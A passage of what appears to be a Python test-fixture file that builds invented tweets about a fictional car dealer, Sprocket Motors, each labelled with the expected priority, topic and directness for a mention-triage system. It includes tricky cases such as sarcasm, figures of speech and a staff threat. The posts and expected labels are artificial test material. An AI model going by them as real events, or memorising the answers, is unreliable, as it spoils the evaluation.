    winter = tw(B, "❄️ Free winter check at every Sprocket Motors garage until 30 Nov: tyres, battery, lights, wipers and coolant, 20 minutes while you wait. Book in online or at the service desk.",
                when="2027-10-14T09:30:00Z")
    SC("spm-winter-check-private-sale", "question-in-reply-to-brand",
       tw("fi_montague", "is that for anyone or only cars you sold? mine's from a private sale and I've never had it serviced with you",
          reply_to=winter, when="2027-10-14T09:48:21Z"),
       expect(RP, "normal", "servicing", "direct"), note="a question under the brand's post, no @")
    mot_brand = tw(B, "@hattie_brewin Morning Hattie! An MOT takes about 45 minutes at Brackton, and there's wifi and (decent) coffee in the waiting area. Want me to find you a slot?",
                   reply_to=mot_q, when="2027-10-11T08:02:33Z")
    SC("spm-mot-slot-friday", "thread-with-brand",
       tw("hattie_brewin", "yes please! Friday morning if you've got anything, first thing ideally. it's the blue Yaris, MOT runs out on the 20th",
          reply_to=mot_brand, when="2027-10-11T08:15:02Z"),
       expect(RP, "normal", "servicing", "direct"), note="answers the brand's question without @")
    SC("spm-in-passing-finance-taken-twice", "complaint-in-passing",
       tw("toby_gaskell", f"what a week. boiler's packed in, the dog ate a sock (£900 vet bill) and @{B} took my finance payment twice on Monday so now I'm overdrawn. it's only Tuesday",
          when="2027-10-12T20:10:44Z"),
       expect(RP, "normal", "finance", "indirect"), note="the brand tagged in the middle of a bad week")
    SC("spm-in-passing-lost-spare-key", "complaint-in-passing",
       tw("oakley_dene", f"today's list: burst pipe in the café, two staff off sick, card machine down, and @{B} have 'lost' my spare key while it was in for the MOT. keys are £240 to replace. can it be Friday yet",
          when="2027-10-14T10:30:18Z"),
       expect(RP, "normal", "documents", "indirect"), note="the brand tagged in the middle of a list of troubles")
    SC("spm-sarcasm-courtesy-car-crisps", "sarcasm-customer",
       tw("kerry_blythe", f"@{B} 10/10 courtesy car experience. a Fiat 500 with half a bag of someone else's crisps down the side and a dashboard that beeps every 30 seconds for no reason. truly spoiling me",
          when="2027-10-14T11:05:52Z"),
       expect(RP, "normal", "servicing", "direct"), note="sarcasm: a complaint dressed as praise")
    SC("spm-complaint-indirect-invoice", "complaint-indirect",
       tw("fi_montague", "Sprocket Motors quoted me £290 for a service and the invoice came to £512. nobody rang to ask first. pay up or you don't get your car back, apparently",
          when="2027-10-14T11:40:09Z"),
       expect(RP, "normal", "servicing", "indirect"), note="her own experience, named but not tagged")
    SC("spm-complaint-indirect-second-key", "complaint-indirect",
       tw("rosie_tamworth", "three weeks since I picked up my car from Sprocket Motors Dunmoor and still no second key. 'it's coming from the manufacturer'. sure it is",
          when="2027-10-14T12:15:36Z"),
       expect(RP, "normal", "documents", "indirect"), note="named, not tagged, about her own purchase")
    SC("spm-threat-from-salesman-review", "threat-urgent",
       tw("hannah_okoye_d", f"@{B} I left an honest 2 star review of Brackton and the salesman who sold me the car has just messaged my personal number: 'I know where you live, take it down'. I'm on my own with my kids. is this how you treat customers?",
          when="2027-10-14T13:02:27Z"),
       expect(RP, "urgent", "sales", "direct"),
       note="a threat from a member of staff against a customer at home with her children: urgent, and she needs an answer")
    SC("spm-pcp-killing-me-figure-of-speech", "question",
       tw("liz_penrose_k", f"@{B} these PCP payments are killing me 💀 any chance of dropping the monthly if I extend the agreement by a year?",
          when="2027-10-14T13:40:15Z"),
       expect(RP, "normal", "finance", "direct"), note="'killing me' is a figure of speech: an ordinary finance question")
    SC("spm-praise-past-wheel-settled", "praise",
       tw("marcus_beale", "two years ago a wheel came off my old car on the M5 after a cheap tyre place 'fitted' it. since then only Sprocket Motors touch my cars. Brackton service team have never once let me down ❤️",
          when="2027-10-14T14:20:48Z"),
       expect(RP, "low", "servicing", "indirect"), note="an old scare at another garage, long over: praise, not a safety case",
       known_miss="round 9, not met yet: priority: want 'low', got urgent; the engine read: names Sprocket Motors in a post to everyone | complaint (0.67) | a danger to health or safety: urgent | topic servicing: 'tyre', 'service', 'serviced'")
    SC("spm-car-fire-after-clutch", "safety-urgent",
       tw("ben_cartwright7", "just picked the car up from Sprocket Hollin Bridge after a new clutch and 5 miles later there's a burning smell and smoke coming up round the pedals. pulled into a layby, wife and baby still in the car. do I open the bonnet??",
          when="2027-10-14T15:10:06Z"),
       expect(RP, "urgent", "safety", "indirect"), note="a possible car fire with a baby inside, minutes after a repair; named, not tagged")
    isobel = tw("IsobelQuaynes", "My dad is 84. His car has been at Sprocket Motors Dunmoor for five weeks 'waiting on a part', they won't give him a courtesy car, and he can't get to the shops or his bowls club. Shameful.",
                when="2027-10-14T16:05:40Z",
                metrics={"retweet_count": 3100, "reply_count": 1200, "like_count": 22400, "quote_count": 400})
    SC("spm-big-reach-dad-84-courtesy-car", "big-reach", isobel, expect(RP, "high", "servicing", "indirect"),
       note="1.15m followers; named, not tagged")
    nat_q = tw("nat_harrow", "@fi_montague did you get the new car in the end?? 👀", when="2027-10-14T17:00:12Z")
    SC("spm-venting-finance-add-ons", "third-party-venting",
       tw("fi_montague", "@nat_harrow got it, but the finance bloke at Sprocket slipped £1,200 of paint protection into the agreement and I only spotted it at home. sick of being treated like a mug",
          reply_to=nat_q, when="2027-10-14T17:22:45Z"),
       expect(MON, "low", "finance", "third_party"), note="lesson 2: venting to a friend, brand not tagged")
    return brand


BRANDS["sprocket-motors"] = ("SprocketMotors", 4256789025, build_sprocket_motors)
